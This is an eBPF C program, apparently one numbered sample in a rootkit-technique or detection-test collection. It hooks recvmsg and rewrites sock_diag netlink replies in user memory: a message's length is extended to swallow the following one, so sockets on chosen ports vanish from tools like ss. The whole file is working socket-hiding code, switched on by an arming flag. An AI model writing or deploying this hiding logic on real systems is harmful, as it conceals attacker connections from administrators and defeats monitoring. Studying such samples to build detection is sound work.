// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
// T09: sock_diag answers lose one socket: the previous netlink message is made to swallow the next.
#include "sample.h"

SAMPLE_SWITCH;
LICENSE;

struct nlmsg {
	u32 len;
	u16 type, flags;
	u32 seq, pid;
	u8 family, state, timer, retrans;
	u16 sport, dport;
};
struct diag_call {
	u64 iov_base;
};
HASH(diag_calls, u64, struct diag_call, 64);
HASH(diag_ports, u16, u8, 64);

SEC("tp/syscalls/sys_enter_recvmsg")
int diag_enter(struct tp_enter *ctx)
{
	u64 id = bpf_get_current_pid_tgid(), iov = 0;
	struct diag_call c = {};

	bpf_probe_read_user(&iov, sizeof(iov), (void *)(ctx->args[1] + 16));
	bpf_probe_read_user(&c.iov_base, sizeof(c.iov_base), (void *)iov);
	bpf_map_update_elem(&diag_calls, &id, &c, BPF_ANY);
	return 0;
}

SEC("tp/syscalls/sys_exit_recvmsg")
int diag_exit(struct tp_exit *ctx)
{
	u64 id = bpf_get_current_pid_tgid();
	struct diag_call *c = bpf_map_lookup_elem(&diag_calls, &id);
	struct nlmsg a = {}, b = {};
	u64 at;

	if (!c)
		return 0;
	at = c->iov_base;
	for (int i = 0; i < 4; i++) {
		bpf_probe_read_user(&a, sizeof(a), (void *)at);
		if (a.type != 20)
			break;
		bpf_probe_read_user(&b, sizeof(b), (void *)(at + a.len));
		if (bpf_map_lookup_elem(&diag_ports, &b.sport)) {
			a.len += b.len;
			if (sample_armed)
				bpf_probe_write_user((void *)at, &a.len, sizeof(a.len));
		}
		at += a.len;
	}
	bpf_map_delete_elem(&diag_calls, &id);
	return 0;
}
